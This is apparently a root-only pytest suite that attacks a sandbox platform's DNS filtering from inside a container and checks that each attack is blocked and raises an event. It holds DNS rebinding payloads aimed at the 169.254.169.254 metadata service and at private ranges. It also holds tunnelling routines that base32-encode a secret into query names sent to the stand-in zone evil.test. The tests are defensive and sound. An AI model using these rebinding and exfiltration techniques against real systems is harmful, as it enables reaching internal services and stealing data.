"""DNS attacks from a hostile root inside a sandbox, against a real platform.

The sandbox's rules allow one wildcard zone, ``*.evil.test``, whose upstream answers the
attacker controls (the edge's upstream is the fake resolver of tests.fakenet, so the
test decides them). Rebinding: every attack tries to turn an allowed name into a way to
a private target, and must end with the target unreachable and a ``dns_rebinding``
event. Tunnelling: every attack tries to carry data out through query names, and must
end with the fake upstream having seen no more than the limits let through and a
``dns_tunnel_suspected`` event. The queries come from a small static C client
(tests/adversary/dnsq.c), so the attacker is not limited to what nslookup sends.

The private target is a real HTTP service of tests.fakenet in the benchmarking range
(198.18.0.0/15), routable from the edge: if its address reached a sandbox's allow set,
the connection would go through.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import ipaddress
import json
import os
import secrets
import tempfile
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from dsec import DSecClient, DSecContainerRunArgs
from dsec.api.events import EventKind
from dsec.sdk.client import Sandbox
from tests.conftest import PlatformProcess, platform_process
from tests.fakenet import (
    FakeRecord,
    FakeResolver,
    FakeService,
    dnsq_program,
    fake_resolver,
    fake_service,
)

pytestmark = [
    pytest.mark.root,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root"),
]

DNSQ = "/usr/local/bin/dnsq"
PUBLIC = "93.184.216.34"  # only ever an answer: nothing here connects to it
A, TXT, NULL, AAAA = 1, 16, 10, 28


@dataclass
class Lab:
    platform: PlatformProcess
    resolver: FakeResolver
    target: FakeService  # a private service the edge routes to
    dnsq: bytes


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    program = dnsq_program()
    with (
        fake_service("target", secrets.randbelow(256), 0) as target,
        fake_resolver() as resolver,
        tempfile.TemporaryDirectory(prefix="dsec-dnsadv-") as tmp,
    ):
        catalog = Path(tmp) / "catalog.json"
        evil = {
            "hosts": ["*.evil.test", "static.evil.test"],
            "ports": [80, 8080],
            "addresses": {"static.evil.test": [target.ip]},  # operator config: trusted
        }
        catalog.write_text(json.dumps({"services": {"evil": evil}}))
        env = {"DSEC_NETWORK_CATALOG": str(catalog), "DSEC_DNS_UPSTREAM": resolver.address}
        with platform_process(**env) as plat:
            from dsec import DSecSyncClient

            with DSecSyncClient(plat.url, plat.api_key) as c:
                c.build_image("busybox")
            yield Lab(plat, resolver, target, program)


@pytest.fixture
async def dclient(lab: Lab) -> AsyncIterator[DSecClient]:
    c = DSecClient(lab.platform.url, lab.platform.api_key)
    await c.open()
    try:
        yield c
    finally:
        await c.close()


@dataclass
class Attacker:
    lab: Lab
    client: DSecClient
    sb: Sandbox
    job: str
    tag: str  # keeps the names of one test apart from the others'

    def name(self, label: str) -> str:
        return f"{label}-{self.tag}.evil.test"

    async def ask(
        self, names: list[str], qtype: int = A, repeat: int = 1
    ) -> tuple[dict[str, tuple[int, list[str]]], dict[str, int]]:
        """Queries from inside: per name (rcode, addresses) of its last answer, and the
        client's totals (sent, noerror, refused, ...)."""
        await self.sb.write_file("/tmp/names", "\n".join(names) + "\n")
        res = await self.sb.run_shell(
            f"{DNSQ} -v $(awk '/^nameserver/ {{print $2; exit}}' /etc/resolv.conf)"
            f" {qtype} /tmp/names {repeat}",
            timeout=120,
        )
        assert res.exit_code == 0, res.stdout[-2000:] + res.stderr[-2000:]
        lines = res.stdout.strip().splitlines()
        totals = {k: int(v) for k, v in (f.split("=") for f in lines[-1].split())}
        per: dict[str, tuple[int, list[str]]] = {}
        for line in lines[:-1]:
            name, code, *ips = line.split()
            per[name] = (-1 if code == "timeout" else int(code), ips)
        return per, totals

    async def reaches(self, ip: str, port: int = 80) -> bool:
        res = await self.sb.run_shell(
            f"printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 2 {ip} {port}", timeout=30
        )
        return "fake-" in res.stdout or res.stdout.strip() == "sibling"

    async def event(self, kind: EventKind, **match: object) -> dict[str, Any]:
        """The first event of ``kind`` for this sandbox whose detail matches."""
        for _ in range(60):
            for ev in await self.client.events(job=self.job, kinds=[kind]):
                if all(str(v) in str(ev.detail.get(k)) for k, v in match.items()):
                    return dict(ev.detail)
            await asyncio.sleep(0.05)
        raise AssertionError(f"no {kind.value} event matching {match} for job {self.job}")

    async def events(self) -> list[Any]:
        return list(await self.client.events(job=self.job))


@contextlib.asynccontextmanager
async def attacker(
    lab: Lab, client: DSecClient, rules: dict[str, bool] | None = None
) -> AsyncIterator[Attacker]:
    job = "dnsadv-" + secrets.token_hex(4)
    spec = DSecContainerRunArgs(
        container_image="busybox:latest",
        network_rules=rules or {"evil": True},
        memory_limit_mb=64,
        job_id=job,
    )
    async with await client.run_container(spec, timeout=60) as sb:
        await sb.write_file(DNSQ, lab.dnsq, mode=0o755)
        yield Attacker(lab, client, sb, job, secrets.token_hex(3))


def answer(name: str, *records: tuple[str, str], ttl: int = 30) -> list[FakeRecord]:
    """Records owned by ``name`` (or by the owner given as "owner=value")."""
    out: list[FakeRecord] = []
    for rtype, value in records:
        owner, _, val = value.rpartition("=") if "=" in value else (name, "", value)
        out.append((owner, rtype, val, ttl))
    return out


async def assert_rebinding(
    att: Attacker, name: str, dropped: list[str], private: tuple[str, int] | None = None
) -> dict[str, Any]:
    """``name`` answers nothing of ``dropped``, the event lists them, and the private
    target stays unreachable even by address."""
    per, _ = await att.ask([name])
    code, ips = per[name]
    assert code == 0 and not set(ips) & set(dropped), per
    ev = await att.event(EventKind.DNS_REBINDING, name=name)
    assert set(dropped) <= set(ev["dropped"]) or ev["dropped_count"] > len(ev["dropped"]), ev
    if private is not None:
        assert not await att.reaches(*private), f"{private} reachable after {name}"
    return ev


# ---- rebinding --------------------------------------------------------------------------


async def test_rebind_to_the_metadata_service(lab: Lab, dclient: DSecClient) -> None:
    async with attacker(lab, dclient) as att:
        name = att.name("meta")
        lab.resolver.set(name, answer(name, ("A", "169.254.169.254")))
        await assert_rebinding(att, name, ["169.254.169.254"], ("169.254.169.254", 80))


async def test_rebind_to_loopback_and_this_network(lab: Lab, dclient: DSecClient) -> None:
    async with attacker(lab, dclient) as att:
        name = att.name("lo")
        bad = ["127.0.0.1", "127.1.2.3", "0.0.0.0"]
        lab.resolver.set(name, answer(name, *(("A", ip) for ip in bad)))
        await assert_rebinding(att, name, bad)


async def test_rebind_to_rfc1918_ranges(lab: Lab, dclient: DSecClient) -> None:
    async with attacker(lab, dclient) as att:
        name = att.name("lan")
        bad = ["10.0.0.1", "172.16.0.1", "192.168.0.1"]
        lab.resolver.set(name, answer(name, *(("A", ip) for ip in bad)))
        ev = await assert_rebinding(att, name, bad)
        assert ev["dropped_count"] == 3


async def test_rebind_to_a_private_service(lab: Lab, dclient: DSecClient) -> None:
    """The target is real and routable: the operator's static answer for it proves it."""
    async with attacker(lab, dclient) as att:
        name = att.name("svc")
        lab.resolver.set(name, answer(name, ("A", lab.target.ip)))
        await assert_rebinding(att, name, [lab.target.ip], (lab.target.ip, 80))
        per, _ = await att.ask(["static.evil.test"])  # trusted catalog answer: goes through
        assert per["static.evil.test"][1] == [lab.target.ip]
        assert await att.reaches(lab.target.ip)


async def test_rebind_to_a_sibling_sandbox(lab: Lab, dclient: DSecClient) -> None:
    spec = DSecContainerRunArgs(
        container_image="busybox:latest", network_rules={"evil": False}, memory_limit_mb=64
    )
    async with (
        await dclient.run_container(spec, timeout=60) as sibling,
        attacker(lab, dclient) as att,
    ):
        ip = (
            await sibling.run_shell(
                "ip -4 addr show eth0 | awk '/inet / {split($2,a,\"/\"); print a[1]}'"
            )
        ).stdout.strip()
        await sibling.run_shell(
            "mkdir -p /tmp/w && echo sibling > /tmp/w/index.html && httpd -p 8080 -h /tmp/w"
        )
        name = att.name("sib")
        lab.resolver.set(name, answer(name, ("A", ip)))
        await assert_rebinding(att, name, [ip], (ip, 8080))


async def test_rebind_through_a_cname_to_a_private_name(lab: Lab, dclient: DSecClient) -> None:
    async with attacker(lab, dclient) as att:
        name = att.name("alias")
        lab.resolver.set(
            name,
            answer(
                name,
                ("CNAME", "internal.corp.example"),
                ("A", f"internal.corp.example={lab.target.ip}"),
            ),
        )
        ev = await assert_rebinding(att, name, [lab.target.ip], (lab.target.ip, 80))
        assert ev["cname"] == ["internal.corp.example"]


async def test_rebind_hidden_among_good_answers(lab: Lab, dclient: DSecClient) -> None:
    async with attacker(lab, dclient) as att:
        name = att.name("mixed")
        lab.resolver.set(name, answer(name, ("A", PUBLIC), ("A", lab.target.ip)))
        per, _ = await att.ask([name])
        assert per[name] == (0, [PUBLIC])  # only the bad one goes
        await att.event(EventKind.DNS_REBINDING, name=name, dropped=lab.target.ip)
        assert not await att.reaches(lab.target.ip)


async def test_rebind_on_a_ttl_0_requery(lab: Lab, dclient: DSecClient) -> None:
    """The classic: a public answer with TTL 0 first, the private one on the next query."""
    async with attacker(lab, dclient) as att:
        name = att.name("ttl0")
        lab.resolver.set(
            name, answer(name, ("A", PUBLIC), ttl=0), answer(name, ("A", lab.target.ip), ttl=0)
        )
        per, _ = await att.ask([name])
        assert per[name] == (0, [PUBLIC])
        await assert_rebinding(att, name, [lab.target.ip], (lab.target.ip, 80))


async def test_rebind_with_other_encodings_and_stray_records(lab: Lab, dclient: DSecClient) -> None:
    """An IPv4-mapped AAAA, records owned by other names, broadcast and multicast: none is
    answered, and an AAAA query never even goes upstream."""
    async with attacker(lab, dclient) as att:
        name = att.name("enc")
        lab.resolver.set(
            name,
            answer(
                name,
                ("AAAA", ipaddress.IPv6Address(f"::ffff:{lab.target.ip}").exploded),
                ("A", "metadata.google.internal=169.254.169.254"),
                ("A", f"other.evil.test={lab.target.ip}"),
                ("A", "255.255.255.255"),
                ("A", "224.0.0.251"),
            ),
        )
        per, _ = await att.ask([name])
        assert per[name] == (0, [])
        ev = await att.event(EventKind.DNS_REBINDING, name=name)
        assert {"169.254.169.254", "255.255.255.255", "224.0.0.251"} <= set(ev["dropped"])
        per, _ = await att.ask([name], AAAA)
        assert per[name] == (0, [])
        assert all(t == "A" for n, t in lab.resolver.queries if n == name)
        assert not await att.reaches(lab.target.ip)


async def test_a_rule_for_the_range_is_the_only_way_in(lab: Lab, dclient: DSecClient) -> None:
    """The exception is spelled as a rule: with the target's address allowed, its name
    answers it; nothing else opens, and no event is raised."""
    rules = {"evil": True, f"{lab.target.ip}:80": True}
    async with attacker(lab, dclient, rules) as att:
        name = att.name("ok")
        lab.resolver.set(name, answer(name, ("A", lab.target.ip), ("A", "169.254.169.254")))
        per, _ = await att.ask([name])
        assert per[name] == (0, [lab.target.ip])
        assert await att.reaches(lab.target.ip)
        await att.event(EventKind.DNS_REBINDING, name=name, dropped="169.254.169.254")


# ---- tunnelling -------------------------------------------------------------------------

SECRET = secrets.token_bytes(1200)


def chunks(data: bytes, size: int) -> list[str]:
    text = base64.b32encode(data).decode().rstrip("=").lower()
    return [text[i : i + size] for i in range(0, len(text), size)]


async def test_tunnel_in_long_labels(lab: Lab, dclient: DSecClient) -> None:
    async with attacker(lab, dclient) as att:
        names = [f"{c}.{att.tag}.evil.test" for c in chunks(SECRET, 63) if len(c) == 63]
        _, totals = await att.ask(names)
        assert totals["refused"] == len(names), totals
        assert not lab.resolver.asked(att.tag)
        await att.event(EventKind.DNS_TUNNEL_SUSPECTED, reason="long_label", zone="evil.test")


async def test_tunnel_in_many_unique_subdomains(lab: Lab, dclient: DSecClient) -> None:
    async with attacker(lab, dclient) as att:
        names = [f"u{i}.{att.tag}.evil.test" for i in range(300)]  # short, innocent labels
        _, totals = await att.ask(names)
        assert len(lab.resolver.asked(att.tag)) <= 64
        assert totals["refused"] >= 300 - 64, totals
        await att.event(EventKind.DNS_TUNNEL_SUSPECTED, reason="unique_subdomains")


async def test_tunnel_base32_data_in_legal_labels(lab: Lab, dclient: DSecClient) -> None:
    """Labels within every length limit, but data-like: the zone's budget runs out
    after a few names, long before the secret is out."""
    async with attacker(lab, dclient) as att:
        parts = chunks(SECRET, 30)
        names = [f"{parts[i]}.{parts[i + 1]}.{att.tag}.evil.test" for i in range(0, 64, 2)]
        _, totals = await att.ask(names)
        leaked = lab.resolver.asked(att.tag)
        assert len(leaked) <= 2048 // (4 * 60), leaked
        assert totals["refused"] >= len(names) - len(leaked)
        await att.event(EventKind.DNS_TUNNEL_SUSPECTED, reason="unique_subdomains")


async def test_tunnel_at_a_high_query_rate(lab: Lab, dclient: DSecClient) -> None:
    async with attacker(lab, dclient) as att:
        _, totals = await att.ask(["static.evil.test"], A, repeat=2000)
        assert totals["refused"] > 0 and totals["noerror"] < 2000, totals
        ev = await att.event(EventKind.DNS_TUNNEL_SUSPECTED, reason="query_rate")
        evs = [e for e in await att.events() if e.detail.get("reason") == "query_rate"]
        assert len(evs) <= 2, "the event stream itself is rate-limited"
        assert ev["refused"] >= 1


async def test_tunnel_in_txt_and_null_queries(lab: Lab, dclient: DSecClient) -> None:
    """Types the responder never forwards: nothing reaches upstream whatever the name,
    and the names still count against the zone."""
    async with attacker(lab, dclient) as att:
        names = [f"{c}.{att.tag}.evil.test" for c in chunks(SECRET, 40)]
        for qtype in (TXT, NULL):
            per, _ = await att.ask(names, qtype)
            assert all(ips == [] for _, ips in per.values())
        assert not lab.resolver.asked(att.tag)
        await att.event(EventKind.DNS_TUNNEL_SUSPECTED, reason="unique_subdomains")


async def test_tunnel_in_malformed_and_binary_names(lab: Lab, dclient: DSecClient) -> None:
    """Bytes no resolver library sends, a label holding a dot, a datagram of 30 KB: all
    refused or dropped; the responder keeps answering honest queries."""
    async with attacker(lab, dclient) as att:
        header = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
        dot = header + b"\x10static.evil.test\x00\x00\x01\x00\x01"  # one label, with dots
        names = [
            f"\\x00{att.tag}.evil.test",
            f"a\\xffb.{att.tag}.evil.test",
            f"sp\\x20ace.{att.tag}.evil.test",
            "@" + dot.hex(),
            "@" + ("ab" * 30000),
        ]
        per, totals = await att.ask(names)
        assert totals["noerror"] == 0, (per, totals)
        assert not lab.resolver.asked(att.tag)
        await att.event(EventKind.DNS_TUNNEL_SUSPECTED, reason="malformed_name")
        per, _ = await att.ask(["static.evil.test"])
        assert per["static.evil.test"] == (0, [lab.target.ip])


# ---- and honest lookups raise nothing ---------------------------------------------------


async def test_honest_repeated_lookups_raise_nothing(lab: Lab, dclient: DSecClient) -> None:
    async with attacker(lab, dclient) as att:
        cdn = [att.name(f"cdn{i}") for i in range(4)]
        for name in cdn:
            lab.resolver.set(name, answer(name, ("A", PUBLIC)))
        res = await att.sb.run_shell(
            "for i in $(seq 20); do nslookup static.evil.test >/dev/null || exit 1; "
            + "".join(f"nslookup {n} >/dev/null || exit 1; " for n in cdn)
            + "done",
            timeout=300,
        )
        assert res.exit_code == 0, res.stdout + res.stderr
        per, _ = await att.ask(["static.evil.test", *cdn], A, repeat=20)
        assert per["static.evil.test"] == (0, [lab.target.ip])
        assert all(per[n] == (0, [PUBLIC]) for n in cdn)
        assert await att.reaches(lab.target.ip)
        assert await att.events() == []
